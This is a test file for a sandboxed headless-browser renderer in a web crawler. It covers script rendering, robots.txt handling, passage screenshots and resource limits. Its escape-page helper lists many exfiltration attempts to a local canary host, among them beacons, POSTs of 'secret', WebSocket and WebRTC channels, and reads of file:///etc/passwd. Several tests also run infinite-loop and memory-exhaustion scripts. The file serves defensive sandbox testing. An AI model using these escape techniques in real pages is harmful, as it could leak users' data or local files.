import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createSocket } from 'node:dgram';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPageBrowser, type PageBrowser } from '../../outbound/browser/create-page-browser.ts';
import { openOutbound } from '../../outbound/testing/open-outbound.ts';
import { recordDials } from '../../outbound/testing/record-dials.ts';
import { startSite, startTcpListener } from '../../outbound/testing/site.ts';
import { buildTextLayer } from '../../evidence/text-layer/build-text-layer.ts';
import { RENDERED_TYPE } from '../../contracts/page.ts';
import { findTestBrowser } from '../support/find-test-browser.ts';
import { inkOf } from '../support/ink-of.ts';

const executablePath = findTestBrowser();
const TYPE = 'text/html; charset=utf-8';
const bytesOf = (html: string) => new TextEncoder().encode(html);
const shell = (script: string) => `<!doctype html><title>Shell</title><div id="root"></div><script>${script}</script>`;

describe.skipIf(executablePath === undefined)('browser lane', () => {
  const opened = new AsyncDisposableStack();
  afterAll(() => opened.disposeAsync());

  describe('reading a page that its scripts make', () => {
    let browser: PageBrowser;
    let origin: string;
    const asked: string[] = [];
    beforeAll(async () => {
      const site = opened.use(
        await startSite(
          (request, response) => {
            const path = request.url ?? '';
            asked.push(path);
            if (path === '/robots.txt') return response.end('User-agent: *\nDisallow: /private\n');
            if (path === '/app.js') {
              response.setHeader('content-type', 'text/javascript');
              return response.end(APP);
            }
            if (path === '/moved.json') return response.writeHead(302, { location: '/news.json' }).end();
            response.setHeader('content-type', 'application/json');
            return response.end(JSON.stringify({ title: 'Version 2.1', text: 'The valve closes by itself.' }));
          },
          { servesRobots: true },
        ),
      );
      origin = site.origin;
      const outbound = opened.use(openOutbound());
      browser = opened.use(createPageBrowser({ executablePath: executablePath!, outbound }));
      // What a page was reached by when it was read is what its parts may reach.
      await outbound.fetchPage({ url: `${origin}/page` });
      asked.length = 0;
    });

    const APP = `
      customElements.define('x-note', class extends HTMLElement {
        connectedCallback() { this.attachShadow({ mode: 'open' }).innerHTML = '<p>Said in the shade.</p>'; }
      });
      const { title, text } = await (await fetch('/moved.json')).json();
      const hidden = await fetch('/private/plan.json').then((answer) => answer.text(), () => 'no plan');
      setTimeout(() => {
        document.title = title;
        document.getElementById('root').innerHTML = '<main><h1>' + title + '</h1><p>' + text + '</p><p>' + hidden + '</p><x-note></x-note></main>';
      }, 200);`;

    it('runs its scripts, with what they fetch, and writes the document out', async () => {
      const html =
        '<!doctype html><title>Shell</title><div id="root"></div><script type="module" src="/app.js"></script>';
      const outcome = await browser.render({ url: `${origin}/page`, bytes: bytesOf(html), mediaType: TYPE });
      if (outcome.kind !== 'rendered') throw new Error(outcome.detail, { cause: outcome.cause });
      const layer = await buildTextLayer({ bytes: outcome.bytes, mediaType: RENDERED_TYPE, url: `${origin}/page` });
      expect(layer).toMatchObject({ lane: 'browser', title: 'Version 2.1' });
      expect(layer.text).toContain('The valve closes by itself.');
      expect(layer.text).toContain('Said in the shade.');
      expect(outcome).toMatchObject({ answered: 2, refused: 1 });
    });

    it('asks for nothing that robots.txt keeps from us, and not for the document again', () => {
      expect(asked).toContain('/news.json');
      expect(asked).not.toContain('/private/plan.json');
      expect(asked).not.toContain('/page');
    });

    it('ends a page that never comes to rest, with what it shows by then', async () => {
      await using short = createPageBrowser({
        executablePath: executablePath!,
        outbound: { fetchPage: () => Promise.reject(new Error('nothing is fetched')) },
        limits: { settleTimeoutMs: 1_000 },
      });
      const restless = shell(
        `let n = 0; setInterval(() => { document.getElementById('root').textContent = 'Tick ' + n++; }, 20);`,
      );
      const outcome = await short.render({
        url: 'https://site.example.com/',
        bytes: bytesOf(restless),
        mediaType: TYPE,
      });
      if (outcome.kind !== 'rendered') throw new Error(outcome.detail);
      expect(new TextDecoder().decode(outcome.bytes)).toMatch(/Tick \d+/);
    });

    it.each([
      ['loops for ever', 'for (;;) {}', 'timed_out'],
      ['makes a document without end', `document.body.append('long '.repeat(2e6));`, 'too_large'],
      [
        'takes memory without end',
        `const kept = []; setInterval(() => { const b = new Uint8Array(64e6); b.fill(1); document.body.append('x'.repeat(kept.push(b))); }, 20);`,
        'too_large',
      ],
    ])('gives up on a page that %s, and reads the next one', async (_, script, code) => {
      await using small = createPageBrowser({
        executablePath: executablePath!,
        outbound: { fetchPage: () => Promise.reject(new Error('nothing is fetched')) },
        limits: { totalTimeoutMs: 8_000, settleTimeoutMs: 6_000, closeTimeoutMs: 1_000, maxProcessBytes: 400e6 },
      });
      const url = 'https://site.example.com/';
      const outcome = await small.render({ url, bytes: bytesOf(shell(script)), mediaType: TYPE });
      expect(outcome).toMatchObject({ kind: 'failure', code });
      const next = await small.render({ url, bytes: bytesOf('<p>Fine.</p>'), mediaType: TYPE });
      expect(next.kind).toBe('rendered');
    });

    it('ends with the reason of a cancelled take', async () => {
      const reason = new Error('cancelled');
      const render = browser.render(
        { url: `${origin}/`, bytes: bytesOf(shell('for (;;) {}')), mediaType: TYPE },
        { signal: AbortSignal.abort(reason) },
      );
      await expect(render).rejects.toBe(reason);
    });

    it('says what stopped it where the browser does not start', async () => {
      await using broken = createPageBrowser({
        executablePath: '/nowhere/chromium',
        outbound: { fetchPage: () => Promise.reject(new Error('no')) },
      });
      expect(await broken.render({ url: `${origin}/x`, bytes: bytesOf('<p>x'), mediaType: TYPE })).toMatchObject({
        kind: 'failure',
        code: 'unreadable',
        detail: `${origin}/x needs a browser to be read, and was not: the browser could not show it.`,
      });
    });

    it('closes the browser when nobody needs it, and starts it again', async () => {
      await using brief = createPageBrowser({
        executablePath: executablePath!,
        outbound: { fetchPage: () => Promise.reject(new Error('no')) },
        limits: { idleMs: 1 },
      });
      const document = { url: 'https://site.example.com/', bytes: bytesOf('<p>Fine.</p>'), mediaType: TYPE };
      await brief.render(document);
      await expect.poll(() => brief.getPid()).toBeUndefined();
      expect(await brief.render(document)).toMatchObject({ kind: 'rendered' });
    });
  });

  describe('taking a picture of a passage', () => {
    let browser: PageBrowser;
    let fetched = 0;
    beforeAll(() => {
      const fetchPage = () => {
        fetched += 1;
        return Promise.reject(new Error('nothing is fetched'));
      };
      browser = opened.use(createPageBrowser({ executablePath: executablePath!, outbound: { fetchPage } }));
    });

    const keep = (html: string) => ({
      url: 'https://site.example.com/log',
      bytes: bytesOf(`<!doctype html><title>Log</title>${html}`),
      mediaType: TYPE,
    });
    const many = (html: string, count: number) => html.repeat(count);

    async function crop(html: string, quote: string, headings: string[] = []) {
      const outcome = await browser.crop(keep(html), { quote, headings });
      if (outcome.kind === 'failure') throw outcome.cause;
      const ink = inkOf(outcome.png);
      expect([ink.width, ink.height]).toEqual([outcome.width, outcome.height]);
      return { ...outcome, ink };
    }

    it('shows the words, marked, with what is around them; the same bytes each time', async () => {
      const html = `${many('<p>Before.</p>', 80)}<h2>Version 3</h2><p>The lid <b>opens</b>\n both ways.</p>${many('<p>After.</p>', 80)}`;
      const first = await crop(html, 'The lid opens both ways.');
      expect(first.width).toBe(2400);
      expect(first.height).toBeGreaterThan(300);
      expect(first.height).toBeLessThan(500);
      const again = await crop(html, 'The lid opens both ways.');
      expect(Buffer.from(again.png).equals(Buffer.from(first.png))).toBe(true);
    });

    /** Each passage stands on a ground of its own: the crop that has the right one in view is green. */
    const GREEN = 'background:#00ff00';
    const RED = 'background:#ff0000';
    const BODY = '<style>body{margin:0}p,h2{margin:0;height:300px}</style>';
    it.each<[what: string, html: string, headings: string[]]>([
      [
        'the one of several that stands below its heading',
        [5, 4, 3, 2].map((n) => `<h2>${n}.0</h2><p style="${n === 3 ? GREEN : RED}">The lid opens.</p>`).join(''),
        ['3.0'],
      ],
      [
        'the one below its heading, though a list of contents names it before',
        `<i>4.0</i> <i>3.0</i>${[4, 3].map((n) => `<h2>${n}.0</h2><p style="${n === 3 ? GREEN : RED}">The lid opens.</p>`).join('')}`,
        ['3.0'],
      ],
      ['the one that is shown', `<p hidden>The lid opens.</p><p style="${GREEN}">The lid opens.</p>`, []],
      ['one far below', `${many(`<p style="${RED}">x</p>`, 2_000)}<p style="${GREEN}">The lid opens.</p>`, []],
      [
        'one in a pane that scrolls',
        `<div style="height:100vh;overflow:auto">${many(`<p style="${RED}">x</p>`, 50)}<p style="${GREEN}">The lid opens.</p></div>`,
        [],
      ],
      [
        'one below a bar and a notice that float',
        `<div style="position:fixed;inset:0;${RED}">Cookies!</div><header style="position:sticky;top:0;height:200px;${RED}">Log</header>${many('<p>x</p>', 50)}<p style="${GREEN}">The lid opens.</p>`,
        [],
      ],
      [
        'one in a shadow tree and its slot',
        `<x-note><template shadowrootmode="open"><p style="height:300px;${GREEN}">The <slot></slot> opens.</p></template><b>lid</b></x-note>`,
        [],
      ],
      [
        'one beside words for who has no script',
        `<noscript><p style="${RED}">Scripts!</p></noscript><p style="${GREEN}">The lid opens.</p>`,
        [],
      ],
    ])('shows %s', async (_what, html, headings) => {
      const { ink, width } = await crop(`${BODY}${html}`, 'The lid opens.', headings);
      expect(ink.colourAt(width - 10, Math.min(ink.height - 20, 220))).toBe('#00ff00');
    });

    it('compares letters alone, however they are composed', async () => {
      const { ink } = await crop('<p>Le cafe\u0301\u00a0est ou\u00advert</p>', 'Le caf\u00e9 est ouvert');
      expect(ink.share({ left: 0, top: 0, width: 400, height: ink.height })).toBeGreaterThan(0.01);
    });

    it('shows as much of a long passage as a picture may have', async () => {
      const { height, png } = await crop(`<pre>${many('a line\n', 300)}</pre>`, many('a line\n', 250));
      expect(height).toBe(1_600);
      expect(png.length).toBeLessThan(4 * 1024 * 1024);
    });

    it.each([
      ['is not there', '<p>The lid stays shut.</p>'],
      ['is not shown', '<p style="display:none">The lid opens.</p><p style="opacity:0">The lid opens.</p>'],
      [
        'is for a screen reader alone',
        '<p style="position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0 0 0 0)">The lid opens.</p>',
      ],
      ['is in a script', '<script type="text/plain">The lid opens.</script>'],
    ])('takes none where the quote %s', async (_what, html) => {
      await expect(crop(html, 'The lid opens.')).rejects.toThrow('the page does not show the quote');
    });

    it('runs no script and asks for nothing', async () => {
      const html = `<p>The lid opens.</p><script>document.body.textContent = 'gone'</script><script src="/app.js"></script>
        <link rel="stylesheet" href="/a.css"><img src="/a.png"><iframe src="/frame"></iframe><meta http-equiv="refresh" content="0;url=/next">`;
      await crop(html, 'The lid opens.');
      expect(fetched).toBe(0);
    });

    it('gives up in time, on a picture that is too large, and where there is no browser', async () => {
      const fetchPage = () => Promise.reject(new Error('nothing is fetched'));
      const passage = { quote: 'The lid opens.', headings: [] };
      const late = await browser.crop(keep('<p>The lid opens.</p>'), passage, { timeoutMs: 0 });
      expect(late).toMatchObject({ kind: 'failure', cause: { name: 'TimeoutError' } });
      await using small = createPageBrowser({
        executablePath: executablePath!,
        outbound: { fetchPage },
        limits: { maxCropBytes: 100 },
      });
      const large = await small.crop(keep('<p>The lid opens.</p>'), passage);
      expect(large).toMatchObject({ kind: 'failure', cause: { code: 'too_large' } });
      await using none = createPageBrowser({ executablePath: '/nowhere/chromium', outbound: { fetchPage } });
      expect((await none.crop(keep('<p>The lid opens.</p>'), passage)).kind).toBe('failure');
    });

    it('ends with the reason of a cancelled take', async () => {
      const reason = new Error('cancelled');
      const passage = { quote: 'The lid opens.', headings: [] };
      const cropping = browser.crop(keep('<p>x</p>'), passage, { signal: AbortSignal.abort(reason) });
      await expect(cropping).rejects.toBe(reason);
    });
  });

  describe('many pages of one operator that never get quiet', () => {
    const restless = shell('setInterval(() => { root.textContent = Date.now(); }, 20)');
    const quiet = shell("root.textContent = 'The valve closes by itself.'");
    const fetchPage = () => Promise.reject(new Error('nothing is fetched'));
    const at = (html: string) => ({ url: 'http://pages.example/page', bytes: bytesOf(html), mediaType: TYPE });

    it('hold nobody else up', async () => {
      await using browser = createPageBrowser({
        executablePath: executablePath!,
        outbound: { fetchPage },
        limits: { settleTimeoutMs: 3_000, totalTimeoutMs: 8_000, laneTimeoutMs: 60_000 },
      });
      await browser.render(at(quiet));
      const order: string[] = [];
      const many = Array.from({ length: 6 }, () =>
        browser.render(at(restless), { share: 'many' }).then(() => order.push('many')),
      );
      await browser.render(at(quiet), { share: 'one' }).then(({ kind }) => order.push(kind));
      await Promise.all(many);
      // Two of the many have a place at once; none that waited goes before.
      expect(order.indexOf('rendered')).toBeLessThanOrEqual(2);
      expect(order.filter((kind) => kind === 'many')).toHaveLength(6);
    });

    it('and the wait for a turn counts as time of the page', async () => {
      await using browser = createPageBrowser({
        executablePath: executablePath!,
        outbound: { fetchPage },
        limits: { settleTimeoutMs: 4_000, totalTimeoutMs: 8_000, maxPages: 1, maxPagesOfOne: 1 },
      });
      await browser.render(at(quiet));
      const first = browser.render(at(restless));
      const behind = await browser.render(at(quiet), { timeoutMs: 1_000 });
      expect(behind).toMatchObject({ kind: 'failure', code: 'timed_out' });
      expect((await first).kind).toBe('rendered');
    });
  });

  it('lets no page reach anything by itself', async () => {
    await using canary = await startTcpListener((socket) => socket.destroy());
    const datagrams: string[] = [];
    const udp = createSocket('udp4');
    udp.on('message', (message) => datagrams.push(message.toString('hex'))).bind(canary.port, '127.0.0.1');
    await once(udp, 'listening');
    const { createDial, dials } = recordDials();
    // Everything is allowed by the rules but nobody is contacted: what the page asks for through us is seen in the dials.
    await using outbound = openOutbound({
      allow: '192.0.2.1/32',
      createDial,
      resolve: () => Promise.resolve(['198.41.0.4']),
    });
    await using browser = createPageBrowser({ executablePath: executablePath!, outbound });
    const outcome = await browser.render({
      url: 'https://site.example.com/',
      bytes: bytesOf(buildEscape(`127.0.0.1:${canary.port}`)),
      mediaType: TYPE,
    });
    udp.close();
    if (outcome.kind !== 'rendered') throw new Error(outcome.detail, { cause: outcome.cause });
    const shown = new TextDecoder().decode(outcome.bytes);
    expect(shown).toContain('all tried');
    expect({ connections: canary.getConnections(), datagrams, dials }).toEqual({
      connections: 0,
      datagrams: [],
      dials: [],
    });
    expect(outcome.answered).toBe(0);
    expect(outcome.refused).toBeGreaterThan(8);
  });

  it('passes on plain GETs for scripts, style sheets and data, to allowed networks from pages there alone, and sends them itself', async () => {
    const agents = new Set<string | undefined>();
    await using canary = await startSite((request, response) => {
      agents.add(request.headers['user-agent']);
      response.end('');
    });
    await using outbound = openOutbound();
    await using browser = createPageBrowser({ executablePath: executablePath!, outbound });
    const bytes = bytesOf(buildEscape(canary.origin.slice('http://'.length)));
    const outside = await browser.render({ url: 'https://site.example.com/', bytes, mediaType: TYPE });
    expect(outside).toMatchObject({ kind: 'rendered', answered: 0 });
    expect(canary.requests).toEqual([]);
    await outbound.fetchPage({ url: `${canary.origin}/page` });
    canary.requests.length = 0;
    const outcome = await browser.render({ url: `${canary.origin}/page`, bytes, mediaType: TYPE });
    expect(outcome.kind).toBe('rendered');
    expect([...agents]).toEqual([expect.stringMatching(/^Longtake\//)]);
    const passed = new Set([
      'script.js',
      'style.css',
      'import.css',
      'fetch',
      'xhr',
      'import.js',
      'module.js',
      'preload',
      'inner',
      'srcdoc',
    ]);
    expect(canary.requests.filter((line) => !passed.has(line.replace(/^GET \//, '')))).toEqual([]);
    expect(canary.requests.length).toBeGreaterThan(4);
  });

  it('ends with the worker that is killed', async () => {
    const module = new URL('../../outbound/browser/create-page-browser.ts', import.meta.url).href;
    const script = `const { createPageBrowser } = await import(${JSON.stringify(module)});
      const browser = createPageBrowser({ executablePath: ${JSON.stringify(executablePath)}, outbound: {} });
      await browser.render({ url: 'https://site.example.com/', bytes: new TextEncoder().encode('<p>x'), mediaType: 'text/html' });
      console.log(browser.getPid());`;
    const worker = spawn(process.execPath, ['--input-type=module', '-e', script], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    const [line] = (await once(worker.stdout, 'data')) as [Buffer];
    const pid = Number(line.toString());
    expect(isRunning(pid)).toBe(true);
    worker.kill('SIGKILL');
    await expect.poll(() => isRunning(pid)).toBe(false);
  });
});

function isRunning(pid: number): boolean {
  try {
    // A child that its dead parent cannot collect stays listed as a zombie.
    return !/^State:\s+Z/m.test(readFileSync(`/proc/${pid}/status`, 'utf8'));
  } catch {
    return false;
  }
}

/** A page that tries every way out that a script or markup has, to one address and to a name. */
function buildEscape(canary: string): string {
  return `<!doctype html><html><head><title>Escape</title>
    <link rel="dns-prefetch" href="//canary.example.net"><link rel="preconnect" href="http://${canary}">
    <link rel="prefetch" href="http://${canary}/prefetch"><link rel="modulepreload" href="http://${canary}/module.js">
    <link rel="preload" as="fetch" crossorigin href="http://${canary}/preload"><link rel="manifest" href="http://${canary}/manifest">
    <link rel="stylesheet" href="http://${canary}/style.css"><link rel="icon" href="http://${canary}/icon">
    <script type="speculationrules">{"prerender":[{"urls":["http://${canary}/prerender"]}],"prefetch":[{"urls":["http://${canary}/speculated"]}]}</script>
    <style>@import url(http://${canary}/import.css); body { background: url(http://${canary}/bg); } @font-face { font-family: f; src: url(http://${canary}/font); } p { font-family: f; }</style>
    <script src="http://${canary}/script.js"></script></head><body>
    <p id="said">Words.</p><img src="http://${canary}/img" srcset="http://${canary}/img2 2x"><video src="http://${canary}/video" autoplay></video>
    <iframe src="http://${canary}/frame"></iframe><iframe srcdoc="<script>fetch('http://${canary}/srcdoc')</script>"></iframe>
    <object data="http://${canary}/object"></object><embed src="http://${canary}/embed">
    <a id="ping" href="#there" ping="http://${canary}/ping">there</a>
    <form id="form" method="post" action="http://${canary}/form"><input name="a" value="b"></form>
    <svg><image href="http://${canary}/svg"/><use href="http://${canary}/use#x"/></svg>
    <script>
      const at = 'http://${canary}';
      const attempts = [
        () => fetch(at + '/fetch'),
        () => fetch(at + '/post', { method: 'POST', body: 'secret', keepalive: true }),
        () => fetch('file:///etc/passwd'),
        () => { const xhr = new XMLHttpRequest(); xhr.open('GET', at + '/xhr'); xhr.send(); },
        () => new WebSocket('ws://${canary}/socket'),
        () => new EventSource(at + '/events'),
        () => navigator.sendBeacon(at + '/beacon', 'secret'),
        () => document.getElementById('ping').click(),
        () => document.getElementById('form').submit(),
        () => window.open(at + '/popup'),
        () => { const link = document.createElement('a'); link.href = at + '/download'; link.download = 'x'; link.click(); },
        () => navigator.serviceWorker.register('/worker.js'),
        () => new Worker(URL.createObjectURL(new Blob(["new WebSocket('ws://${canary}/worker'); fetch('" + at + "/worker')"]))),
        () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + at + "/shared')"]))),
        () => { const frame = document.createElement('iframe'); document.body.append(frame); new frame.contentWindow.WebSocket('ws://${canary}/frame'); frame.contentWindow.fetch(at + '/inner'); },
        () => { const frame = document.createElement('iframe'); document.body.append(frame); call(frame.contentWindow.RTCPeerConnection); },
        () => call(globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection),
        () => new WebTransport('https://${canary}/transport'),
        () => { new Image().src = at + '/image'; },
        () => import(at + '/import.js'),
        () => navigator.credentials?.get({ password: true }),
        () => new Audio(at + '/audio').play(),
        () => location.assign('data:text/html,<p>elsewhere'),
        () => location.assign('file:///etc/passwd'),
        () => location.assign(at + '/navigate'),
      ];
      function call(Connection) {
        const made = new Connection({ iceServers: [{ urls: 'stun:${canary}' }, { urls: 'turn:${canary}?transport=tcp', username: 'a', credential: 'b' }] });
        made.createDataChannel('x');
        made.createOffer().then((offer) => made.setLocalDescription(offer));
      }
      for (const attempt of attempts) try { Promise.resolve(attempt()).catch(() => {}); } catch {}
      setTimeout(() => { document.getElementById('said').textContent = 'all tried'; });
    </script></body></html>`;
}
